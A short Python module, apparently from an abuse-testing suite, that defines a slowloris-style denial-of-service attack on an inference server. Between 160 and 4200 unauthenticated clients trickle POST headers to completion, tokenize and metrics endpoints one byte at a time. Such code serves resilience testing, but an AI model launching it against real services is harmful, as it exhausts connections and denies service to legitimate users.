"""Hundreds of connections, or thousands. Each sends the head of a request one byte at a time."""

from abuse.attack import Attack
from abuse.wire import Target, hold

_PATHS = ("/v1/completions", "/v1/chat/completions", "/tokenize", "/v1/replay", "/version", "/metrics")


async def once(target: Target, number: int) -> int:
    head = target.head("POST", _PATHS[number % len(_PATHS)], 10)
    return await hold(target, head[:20], 30.0, trickle=head[20:])


ATTACK = Attack(__doc__, once, num_clients=(160, 4200), without_key=True, behind_proxy=True)
